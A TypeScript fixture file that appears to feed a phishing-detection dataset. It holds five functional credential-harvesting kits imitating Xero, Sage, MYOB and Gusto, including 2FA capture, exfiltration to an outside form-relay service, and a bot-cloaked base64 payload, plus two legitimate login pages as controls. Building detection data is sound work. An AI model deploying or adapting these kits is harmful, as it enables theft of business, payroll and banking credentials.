import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, cssRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, b64, cookieBanner, gtag } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-xero-invoice-login-kit',
  label: 'phishing',
  kind: 'accounting-saas-kit',
  url: 'https://login-xero-invoices.com/identity/user/login?ReturnUrl=%2Finvoices%2Fview%2F8f2c91',
  body: page({
    title: 'Login | Xero Accounting Software',
    head: `<link rel="icon" href="/favicon.ico"><meta name="robots" content="noindex,nofollow">`,
    css: appCss('#0078c8', '#f0f3f5') + `
.xlogo{display:flex;justify-content:center}
.notice{background:#e6f4fb;border-left:4px solid #13b5ea;padding:10px 12px;font-size:13px;margin-bottom:18px;border-radius:4px}
#step2{display:none}
.code{letter-spacing:8px;font-size:22px;text-align:center}`,
    body: `<div class="wrap"><div class="panel">
  <div class="xlogo">${badge('xero', '#13b5ea', '#fff', 64)}</div>
  <div id="step1">
    <h1 style="text-align:center">Log in to Xero</h1>
    <div class="notice">You have been sent an invoice (INV-004817) from <b>Carrick Facilities Ltd</b>. Log in to view and pay online.</div>
    <form id="f1" autocomplete="on">
      <label for="email">Email address</label>
      <input type="email" id="email" name="email" required autofocus>
      <label for="password">Password</label>
      <input type="password" id="password" name="password" required>
      <div class="error" id="e1">Your email or password is incorrect</div>
      <button class="btn" type="submit" id="b1">Log in</button>
    </form>
    <div class="row"><a href="#">Forgot password?</a><a href="#">Can't log in?</a></div>
    <div class="divider">or</div>
    <div class="sso"><button type="button">Sign in with Google</button><button type="button">Sign in with Apple</button></div>
  </div>
  <div id="step2">
    <h1 style="text-align:center">Two-step authentication</h1>
    <p class="sub" style="text-align:center">Enter the 6-digit code from your authenticator app (Xero Verify or Google Authenticator)</p>
    <form id="f2"><input type="text" inputmode="numeric" maxlength="6" class="code" id="code" name="code" required>
    <label style="font-weight:400"><input type="checkbox" checked> Trust this device for 30 days</label>
    <button class="btn" type="submit" id="b2">Confirm</button></form>
  </div>
  <div class="foot"><a href="#">Terms of use</a>·<a href="#">Privacy</a>·<a href="#">Security notice</a><br>© 2025 Xero Limited</div>
</div></div>
<script>
var tries=0,em='';
function send(o,cb){var fd=new FormData();for(var k in o)fd.append(k,o[k]);fd.append('ua',navigator.userAgent);
fetch('/next.php',{method:'POST',body:fd}).then(function(r){return r.json()}).then(cb).catch(function(){cb({ok:1})});}
document.getElementById('f1').addEventListener('submit',function(ev){ev.preventDefault();var b=document.getElementById('b1');b.disabled=true;b.textContent='Logging in…';
em=document.getElementById('email').value;send({step:'login',email:em,password:document.getElementById('password').value,attempt:++tries},function(){
 if(tries<2){document.getElementById('e1').style.display='block';document.getElementById('password').value='';b.disabled=false;b.textContent='Log in';return;}
 document.getElementById('step1').style.display='none';document.getElementById('step2').style.display='block';});});
document.getElementById('f2').addEventListener('submit',function(ev){ev.preventDefault();document.getElementById('b2').disabled=true;
send({step:'otp',email:em,code:document.getElementById('code').value},function(){location.href='https://www.xero.com/uk/';});});
</script>`,
  }),
  routes: {
    'login-xero-invoices.com/next.php': jsonRoute({ ok: 1, s: 'ok' }),
    'login-xero-invoices.com/favicon.ico': pngRoute(19, 181, 234),
  },
},
{
  id: 'ya-sage-payroll-rti-hacked-wp',
  label: 'phishing',
  kind: 'payroll-saas-kit',
  url: 'https://www.kellystreetdental.com.au/wp-includes/css/dist/sage/index.html',
  body: page({
    title: 'Sage Payroll - Sign in',
    css: `body{margin:0;font-family:"Sage UI",Arial,sans-serif;background:#fff;color:#000}
.bar{height:4px;background:#00d639}
.top{padding:18px 32px}
.main{max-width:460px;margin:30px auto;padding:0 20px}
h1{font-size:30px;font-weight:900;margin:0 0 10px}
.alert{border:1px solid #c7384f;border-left:8px solid #c7384f;padding:14px 16px;margin:18px 0 24px;font-size:14px;background:#fdf1f3}
label{display:block;font-weight:700;font-size:14px;margin:16px 0 6px}
input{width:100%;box-sizing:border-box;border:1px solid #668592;border-radius:0;padding:11px;font-size:16px}
button{margin-top:24px;background:#00815d;color:#fff;border:0;border-radius:32px;padding:12px 28px;font-weight:700;font-size:16px;cursor:pointer}
.sm{font-size:13px;color:#335b6a;margin-top:18px}
footer{font-size:12px;color:#668592;text-align:center;margin-top:60px}`,
    body: `<div class="bar"></div>
<div class="top">${wordmark('Sage', '#00d639', { size: 34, weight: 900 })}</div>
<div class="main">
  <h1>Sign in</h1>
  <div class="alert"><b>Action needed:</b> your last Full Payment Submission (FPS) to HMRC for pay period 09 was rejected. Re-authorise your Government Gateway link within 24 hours to avoid late filing penalties for your employees.</div>
  <form method="post" action="post.php" id="sf">
    <input type="hidden" name="src" value="sage-rti">
    <label for="e">Email address</label><input id="e" name="email" type="email" required>
    <label for="p">Password</label><input id="p" name="pass" type="password" required>
    <label for="gg">Government Gateway user ID (for RTI submissions)</label><input id="gg" name="gg_id" type="text" inputmode="numeric" placeholder="12 digits">
    <label for="ggp">Government Gateway password</label><input id="ggp" name="gg_pass" type="password">
    <button type="submit">Sign in and re-submit</button>
  </form>
  <p class="sm">Trouble signing in? <a href="#">Reset your password</a></p>
</div>
<footer>© The Sage Group plc or its licensors 2025. All rights reserved. · Privacy · Cookies</footer>
<script>
document.getElementById('sf').addEventListener('submit',function(){var h=document.createElement('input');h.type='hidden';h.name='tz';h.value=Intl.DateTimeFormat().resolvedOptions().timeZone;this.appendChild(h);});
</script>`,
  }),
  routes: {
    'www.kellystreetdental.com.au/wp-includes/css/dist/sage/post.php': redirectRoute(302, 'https://uk.sageone.com/'),
  },
},
{
  id: 'ya-myob-formsubmit-relay',
  label: 'phishing',
  kind: 'accounting-saas-kit',
  url: 'https://myob-au-account.net/account/login/index.html',
  body: page({
    title: 'Sign in - MYOB',
    lang: 'en-AU',
    css: appCss('#6100a5', '#f7f5fa') + `.hdr{display:flex;justify-content:center;margin-bottom:6px}.pill{display:inline-block;background:#fff3cd;color:#7a5a00;font-size:12px;padding:4px 10px;border-radius:12px;margin-bottom:10px}`,
    body: `<div class="wrap"><div class="panel">
  <div class="hdr">${wordmark('myob', '#6100a5', { size: 34, weight: 800 })}</div>
  <div style="text-align:center"><span class="pill">Secure document · Remittance_NAB_31Oct.pdf</span></div>
  <h1 style="text-align:center">Sign in to view document</h1>
  <p class="sub" style="text-align:center">A payment remittance has been shared with you through MYOB Business. Confirm your MYOB account to open it.</p>
  <form id="mf">
    <label for="u">Email</label><input type="email" id="u" name="email" required>
    <label for="p">Password</label><input type="password" id="p" name="password" required>
    <div class="error" id="er">Incorrect email or password. Please try again.</div>
    <button class="btn" id="sb">Sign in</button>
  </form>
  <div class="alt"><a href="#">Forgotten your password?</a></div>
  <div class="foot">© MYOB Technology Pty Ltd · <a href="#">Privacy</a> · <a href="#">Terms</a></div>
</div></div>
<script>
(function(){var n=0;var f=document.getElementById('mf');var q=new URLSearchParams(location.hash.slice(1));if(q.get('e'))document.getElementById('u').value=atob(q.get('e'));
f.onsubmit=function(ev){ev.preventDefault();n++;var b=document.getElementById('sb');b.disabled=true;
var body={_subject:'MYOB log '+n,email:f.email.value,password:f.password.value,ref:document.referrer,_captcha:'false'};
fetch('https://formsubmit.co/ajax/e6b1f3a0c77d2b8f4b7f1e5c93d02a61',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify(body)})
.finally(function(){b.disabled=false;if(n<3){document.getElementById('er').style.display='block';f.password.value='';}else{location.href='https://www.myob.com/au';}});};})();
</script>`,
  }),
},
{
  id: 'ya-myob-login-own-domain',
  label: 'clean',
  kind: 'accounting-saas-login',
  url: 'https://secure.myob.com/oauth2/account/login?ReturnUrl=%2Foauth2%2Fauthorize%3Fclient_id%3Dmyob-business-web%26response_type%3Dcode',
  body: page({
    title: 'Sign in - MYOB',
    lang: 'en-AU',
    head: `<link rel="stylesheet" href="/oauth2/content/site.min.css?v=6.2.14">`,
    css: appCss('#6100a5', '#f7f5fa') + `.hdr{display:flex;justify-content:center}`,
    body: `<div class="wrap"><main class="panel">
  <div class="hdr">${wordmark('myob', '#6100a5', { size: 34, weight: 800 })}</div>
  <h1 style="text-align:center">Sign in</h1>
  <form method="post" action="/oauth2/account/login?ReturnUrl=%2Foauth2%2Fauthorize%3Fclient_id%3Dmyob-business-web%26response_type%3Dcode">
    <input name="__RequestVerificationToken" type="hidden" value="CfDJ8Kx2Ww0_mmQuHyb3xQp0sT9uYpA1">
    <label for="UserName">Email</label><input type="email" id="UserName" name="UserName" autocomplete="username" required>
    <label for="Password">Password</label><input type="password" id="Password" name="Password" autocomplete="current-password" required>
    <button class="btn" type="submit">Sign in</button>
  </form>
  <div class="alt"><a href="/oauth2/account/forgotpassword">Forgotten your password?</a> · <a href="https://www.myob.com/au/support/contact-us">Contact support</a></div>
  <div class="alt">MYOB will never email you a link asking you to sign in to view a remittance or invoice. <a href="https://www.myob.com/au/trust/scams">Learn about scams</a></div>
  <div class="foot">© MYOB Technology Pty Ltd ABN 30 086 760 269 · <a href="https://www.myob.com/au/legal/privacy-policy">Privacy</a> · <a href="https://www.myob.com/au/legal/terms">Terms</a></div>
</main></div>`,
  }),
},
{
  id: 'ya-xero-cloaked-api-payload',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://accounts-portal-xero.com/',
  body: page({
    title: 'Portal',
    css: `body{font-family:Georgia,serif;background:#faf7f2;color:#333;text-align:center;padding-top:18vh}h1{font-weight:400}`,
    body: `<h1>Site under maintenance</h1><p>We'll be back shortly. Thank you for your patience.</p>
<script>
(function(){
  var n=navigator,bad=n.webdriver||!n.languages||n.languages.length===0||/Headless|PhantomJS|bot|crawl|spider|Lighthouse/i.test(n.userAgent)||screen.width<400||(n.plugins&&n.plugins.length===0&&!/Mobile|Firefox/.test(n.userAgent));
  var tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}
  var ok=/^(Europe\\/(London|Dublin)|Australia\\/|Pacific\\/Auckland|America\\/(Toronto|Vancouver|New_York|Chicago|Los_Angeles|Denver|Halifax|Winnipeg|Edmonton))/.test(tz);
  if(bad||!ok)return;
  var k=location.hash.slice(1);
  fetch('/api/v.php?c='+encodeURIComponent(k)+'&t='+encodeURIComponent(tz)+'&w='+screen.width,{credentials:'include'}).then(function(r){return r.json()}).then(function(j){
    if(!j||!j.d)return;document.open();document.write(decodeURIComponent(escape(atob(j.d))));document.close();
  }).catch(function(){});
})();
</script>`,
  }),
  routes: {
    'accounts-portal-xero.com/api/v.php': jsonRoute({
      ok: true,
      d: b64(`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Login | Xero Accounting Software</title><meta name="viewport" content="width=device-width,initial-scale=1"><style>body{margin:0;font-family:Arial,sans-serif;background:#f0f3f5}.p{max-width:400px;margin:60px auto;background:#fff;border-radius:8px;padding:32px;box-shadow:0 1px 3px rgba(0,0,0,.12)}h1{text-align:center;font-size:22px}label{display:block;font-size:13px;font-weight:bold;margin:14px 0 6px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #cbd2d9;border-radius:6px}button{width:100%;margin-top:20px;padding:12px;border:0;border-radius:6px;background:#0078c8;color:#fff;font-weight:bold}</style></head><body><div class="p"><div style="text-align:center"><span style="display:inline-block;width:64px;height:64px;border-radius:50%;background:#13b5ea;color:#fff;font:bold 20px/64px Arial">xero</span></div><h1>Log in to Xero</h1><p style="font-size:13px;text-align:center">Your bank feed connection has expired. Log in to reconnect.</p><form method="post" action="/api/l.php"><label>Email address</label><input type="email" name="e" required><label>Password</label><input type="password" name="p" required><button>Log in</button></form></div></body></html>`),
    }),
    'accounts-portal-xero.com/api/l.php': redirectRoute(302, 'https://login.xero.com/'),
  },
},
{
  id: 'ya-gusto-payroll-bank-verify',
  label: 'phishing',
  kind: 'payroll-saas-kit',
  url: 'https://gusto-payroll-verify.com/login/verify-funding',
  body: page({
    title: 'Gusto | Verify your payroll funding account',
    lang: 'en-US',
    css: appCss('#f45d48', '#fbf7f2') + `.gl{display:flex;justify-content:center}.steps{display:flex;gap:6px;margin:14px 0}.steps span{flex:1;height:4px;border-radius:2px;background:#e4e7eb}.steps span.on{background:#f45d48}#bank{display:none}.two{display:flex;gap:10px}.two>div{flex:1}`,
    body: `<div class="wrap"><div class="panel">
  <div class="gl">${wordmark('gusto', '#f45d48', { size: 32, weight: 700, font: 'Georgia, serif' })}</div>
  <div class="steps"><span class="on" id="st1"></span><span id="st2"></span></div>
  <form id="login">
    <h1>Your next payroll is on hold</h1>
    <p class="sub">We were unable to debit your funding account for the payroll scheduled on Friday. Sign in to verify the account so your team is paid on time.</p>
    <label for="em">Work email</label><input id="em" type="email" required>
    <label for="pw">Password</label><input id="pw" type="password" required>
    <button class="btn">Sign in</button>
  </form>
  <form id="bank">
    <h1>Verify funding account</h1>
    <p class="sub">Enter the business bank account payroll should be debited from.</p>
    <label for="bn">Bank name</label><input id="bn" type="text" required>
    <div class="two"><div><label for="rt">Routing number</label><input id="rt" type="text" inputmode="numeric" maxlength="9" required></div>
    <div><label for="ac">Account number</label><input id="ac" type="text" inputmode="numeric" required></div></div>
    <label for="ob">Online banking username</label><input id="ob" type="text">
    <label for="op">Online banking password</label><input id="op" type="password">
    <label for="ein">Company EIN</label><input id="ein" type="text" placeholder="XX-XXXXXXX">
    <button class="btn">Verify account</button>
  </form>
  <div class="foot">© 2025 Gusto, Inc. · <a href="#">Privacy</a> · <a href="#">Help center</a></div>
</div></div>
<script>
var s={};function post(){return fetch('/login/next.php',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:new URLSearchParams(s).toString()});}
document.getElementById('login').onsubmit=function(e){e.preventDefault();s.em=em.value;s.pw=pw.value;post();this.style.display='none';document.getElementById('bank').style.display='block';st2.className='on';};
document.getElementById('bank').onsubmit=function(e){e.preventDefault();['bn','rt','ac','ob','op','ein'].forEach(function(k){s[k]=document.getElementById(k).value});post().finally(function(){location.href='https://gusto.com/';});};
</script>`,
  }),
  routes: { 'gusto-payroll-verify.com/login/next.php': jsonRoute({ r: 1 }) },
},
{
  id: 'ya-accountancy-firm-client-portal',
  label: 'clean',
  kind: 'own-domain-login',
  url: 'https://portal.hqaccountants.ie/clients/login',
  body: page({
    title: 'Client Portal | Hendry & Quinn Chartered Accountants',
    lang: 'en-IE',
    css: appCss('#1b4d3e', '#eef2ef') + `.brand{display:flex;align-items:center;gap:12px}.brand b{font-size:17px;display:block}.brand span{font-size:12px;color:#52606d}.info{font-size:13px;background:#f3f7f4;border:1px solid #d6e3da;border-radius:6px;padding:10px 12px;margin-top:18px}`,
    body: `<div class="wrap"><main class="panel">
  <div class="brand">${badge('HQ', '#1b4d3e')}<div><b>Hendry &amp; Quinn</b><span>Chartered Accountants · Galway &amp; Athlone</span></div></div>
  <h1>Client portal</h1>
  <p class="sub">Upload receipts, sign your year-end accounts and download your Form 11 or CT1 returns.</p>
  <form method="post" action="/clients/login">
    <input type="hidden" name="csrfmiddlewaretoken" value="m3pQv0X7sZ2Yb1eK9rT4nW8cJ6hL5aFd">
    <label for="id_username">Email address</label><input type="email" name="username" id="id_username" autocomplete="username" required>
    <label for="id_password">Password</label><input type="password" name="password" id="id_password" autocomplete="current-password" required>
    <button class="btn" type="submit">Sign in</button>
  </form>
  <div class="row"><a href="/clients/password-reset/">Forgotten password</a><a href="https://www.hqaccountants.ie/contact/">Contact the office</a></div>
  <div class="info"><b>Bank details never change by email.</b> If you receive a message asking you to pay our fees to a new account, phone us on 091 563 210 before paying.</div>
  <div class="foot">Hendry &amp; Quinn Ltd, 14 Dominick Street Lower, Galway H91 X2C4 · Registered in Ireland No. 512873<br><a href="https://www.hqaccountants.ie/privacy/">Privacy</a><a href="https://www.hqaccountants.ie/terms/">Terms of business</a></div>
</main></div>`,
  }),
},
];
